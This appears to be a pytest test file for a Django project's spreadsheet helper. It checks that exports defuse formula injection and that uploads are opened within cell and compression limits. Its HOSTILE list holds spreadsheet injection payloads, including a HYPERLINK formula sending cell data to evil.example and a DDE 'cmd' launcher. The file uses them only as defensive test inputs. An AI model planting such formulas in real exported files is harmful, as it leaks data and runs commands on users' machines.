"""core.spreadsheets: every text written as text, never as a formula; uploads opened bounded; and no
module outside core writes or reads a spreadsheet any other way."""

import ast
import io
import re
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from openpyxl import Workbook, load_workbook

from core import spreadsheets
from tests.core import archives

HOSTILE = [
    '=HYPERLINK("http://evil.example/"&A1,"详情")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
    "=1",
]


def _saved(workbook: spreadsheets.ExportWorkbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def formula_cells(content: bytes) -> list[str]:
    """Every formula in every sheet of an xlsx, read from the XML itself (<f> elements)."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                found += re.findall(r"<(?:\w+:)?f[ >].*?</(?:\w+:)?f>", archive.read(name).decode())
    return found


def test_hostile_texts_are_written_as_quote_prefixed_text_cells():
    workbook = spreadsheets.ExportWorkbook()
    sheet = workbook.add_sheet("成果", headers=["=标题", "数"], widths=[20, 10])

    for text in HOSTILE:
        sheet.append([text, 1])
    content = _saved(workbook)

    assert formula_cells(content) == []
    cells = [row[0] for row in load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2)]
    # Kept whole, so an export imports again unchanged (XML reads a carriage return as a line feed).
    assert [cell.value for cell in cells] == [text.replace("\r", "\n") for text in HOSTILE]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.quotePrefix for cell in cells] == [True] * 7 + [False, True]


def test_numbers_and_dates_stay_typed_and_blanks_empty():
    workbook = spreadsheets.ExportWorkbook()
    sheet = workbook.add_sheet("成果", headers=["a", "b", "c", "d", "e", "f", "g"])
    aware = datetime(2024, 6, 30, 16, 30, tzinfo=UTC)  # 00:30 the next day in 成都

    sheet.append([6, Decimal("1200000.50"), date(2024, 6, 30), aware, True, "", None])
    sheet.append(["普通文字", "a\x07b", "-", "", "", "", ""])

    rows = list(load_workbook(io.BytesIO(_saved(workbook))).active.iter_rows(min_row=2))
    first, second = rows
    assert [cell.value for cell in first] == [
        6,
        1200000.5,
        datetime(2024, 6, 30),
        datetime(2024, 7, 1, 0, 30),
        True,
        None,
        None,
    ]
    assert [cell.data_type for cell in first[:5]] == ["n", "n", "d", "d", "b"]
    assert (first[2].number_format, first[3].number_format) == ("yyyy-mm-dd", "yyyy-mm-dd hh:mm")
    assert [cell.value for cell in second[:3]] == ["普通文字", "ab", "-"]  # control characters dropped
    assert [cell.quotePrefix for cell in second[:3]] == [False, False, True]


def test_the_header_row_is_bold_and_frozen():
    workbook = spreadsheets.ExportWorkbook()
    workbook.add_sheet("审计日志", headers=["时间", "+操作人"], widths=[18, 16])

    sheet = load_workbook(io.BytesIO(_saved(workbook))).active

    assert [(cell.value, cell.font.b) for cell in sheet[1]] == [("时间", True), ("+操作人", True)]
    assert (sheet.freeze_panes, sheet.column_dimensions["B"].width) == ("A2", 16)


def test_a_workbook_built_cell_by_cell_has_every_formula_turned_to_text():
    workbook = spreadsheets.editable_workbook()
    sheet = workbook.active
    spreadsheets.write(sheet, row=1, column=1, value="=cmd|' /C calc'!A0")
    sheet.cell(row=2, column=1, value="=1+1")  # written past the helper: saving still defuses it
    sheet.cell(row=3, column=1, value=42)

    content = spreadsheets.workbook_bytes(workbook)

    assert formula_cells(content) == []
    cells = [row[0] for row in load_workbook(io.BytesIO(content)).active.iter_rows()]
    assert [(cell.value, cell.data_type) for cell in cells] == [
        ("=cmd|' /C calc'!A0", "s"),
        ("=1+1", "s"),
        (42, "n"),
    ]


def _workbook(rows: list[list], *, dimension: str | None = None) -> bytes:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    if dimension is None:
        return buffer.getvalue()
    forged = io.BytesIO()
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(forged, "w") as target:
        for member in source.infolist():
            data = source.read(member.filename)
            if member.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb'<dimension ref="[^"]+"', f'<dimension ref="{dimension}"'.encode(), data)
            target.writestr(member, data)
    return forged.getvalue()


def test_rows_are_as_wide_as_their_cells_whatever_the_sheet_declares():
    content = _workbook([["标题", "摘要"], ["甲", "乙"]], dimension="A1:XFD1048576")

    with spreadsheets.open_workbook(content, max_cells=100) as workbook:
        rows = list(spreadsheets.sheet_rows(workbook.worksheets[0], max_cells=100))

    assert rows == [("标题", "摘要"), ("甲", "乙")]


def test_reading_stops_past_the_cell_limit():
    content = _workbook([["a", "b", "c"]] * 4)

    with spreadsheets.open_workbook(content, max_cells=10) as workbook:
        rows = spreadsheets.sheet_rows(workbook.worksheets[0], max_cells=10)
        assert [next(rows) for _ in range(3)] == [("a", "b", "c")] * 3
        with pytest.raises(spreadsheets.TooManyCells) as error:
            next(rows)

    assert error.value.limit == 10


def test_shared_strings_are_read_as_openpyxl_reads_them():
    content = archives.shared_strings_workbook(
        [
            "<t>标题</t>",
            "<r><rPr><b/></rPr><t>加粗</t></r><r><t>部分</t></r>",
            '<t xml:space="preserve"> 前后空格 </t><rPh sb="0" eb="1"><t>ピン</t></rPh>',
            "<t>_x005F_x000D_转义</t>",
        ]
    )

    with spreadsheets.open_workbook(content, max_cells=10) as opened:
        rows = list(spreadsheets.sheet_rows(opened.worksheets[0], max_cells=10))
    plain = load_workbook(io.BytesIO(content), read_only=True)

    assert rows == [tuple(row) for row in plain.worksheets[0].iter_rows(values_only=True)]
    assert rows == [("标题", "加粗部分", " 前后空格 ", "_x000D_转义")]


def test_a_table_of_more_strings_than_cells_allowed_is_refused_when_opened():
    content = archives.shared_strings_workbook([f"<t>文字{number}</t>" for number in range(6)])

    with spreadsheets.open_workbook(content, max_cells=6):
        pass
    with pytest.raises(spreadsheets.TooManyCells), spreadsheets.open_workbook(content, max_cells=5):
        pass


def test_a_workbook_is_checked_as_an_archive_before_it_is_opened(tmp_path, monkeypatch):
    bomb = archives.compression_bomb(tmp_path / "bomb.xlsx").read_bytes()
    monkeypatch.setattr(spreadsheets, "_BoundedReader", None)  # never reached

    with pytest.raises(ValidationError) as error, spreadsheets.open_workbook(bomb, max_cells=100):
        pass

    assert error.value.code == "archive_compression_ratio"


def test_a_damaged_workbook_is_unreadable():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "not xml")

    with (
        pytest.raises(spreadsheets.UnreadableWorkbook),
        spreadsheets.open_workbook(buffer.getvalue(), max_cells=9),
    ):
        pass


# --- one way to write a spreadsheet -------------------------------------------------------------

ROOT = Path(__file__).resolve().parents[2]
# Formatting only: what a module outside core may take from openpyxl to lay out a template.
OPENPYXL_FORMATTING = (
    "openpyxl.styles",
    "openpyxl.utils",
    "openpyxl.comments",
    "openpyxl.worksheet.datavalidation",
)
OTHER_SPREADSHEET_LIBRARIES = ("xlsxwriter", "xlwt", "pandas", "tablib", "pyexcel", "odf")


def production_modules() -> list[Path]:
    """Every Python module of the platform (tests, the bench and the virtualenv aside)."""
    skipped = {".venv", "tests", "bench", "node_modules", ".git"}
    return sorted(path for path in ROOT.rglob("*.py") if not skipped & set(path.relative_to(ROOT).parts))


def spreadsheet_imports(path: Path) -> list[str]:
    """What a module imports from spreadsheet libraries, and any CSV writer it uses."""
    found = []
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Import):
            found += [alias.name for alias in node.names]
        elif isinstance(node, ast.ImportFrom) and node.module:
            found += [f"{node.module}.{alias.name}" for alias in node.names]
        elif (
            isinstance(node, ast.Attribute)
            and node.attr in ("writer", "DictWriter")
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        ):
            found.append(f"csv.{node.attr}")
    return [
        name
        for name in found
        if name.split(".")[0] in ("openpyxl", *OTHER_SPREADSHEET_LIBRARIES)
        or name in ("csv.writer", "csv.DictWriter")
    ]


def test_no_module_outside_core_writes_or_opens_a_spreadsheet_itself():
    """Exports go through ``core.spreadsheets`` (text never becomes a formula), imports too (opened
    bounded); other modules may only take formatting from openpyxl."""
    helper = ROOT / "core" / "spreadsheets.py"
    offending = {
        str(path.relative_to(ROOT)): names
        for path in production_modules()
        if path != helper
        and (
            names := [name for name in spreadsheet_imports(path) if not name.startswith(OPENPYXL_FORMATTING)]
        )
    }

    assert offending == {}
    assert "openpyxl.Workbook" in spreadsheet_imports(helper)


def test_the_guard_sees_what_it_guards(tmp_path):
    module = tmp_path / "export.py"
    module.write_text(
        "import csv\nfrom openpyxl import Workbook\nfrom openpyxl.cell import WriteOnlyCell\n"
        "from openpyxl.styles import Font\nimport xlsxwriter\nwriter = csv.writer(None)\n"
    )

    assert spreadsheet_imports(module) == [
        "openpyxl.Workbook",
        "openpyxl.cell.WriteOnlyCell",
        "openpyxl.styles.Font",
        "xlsxwriter",
        "csv.writer",
    ]
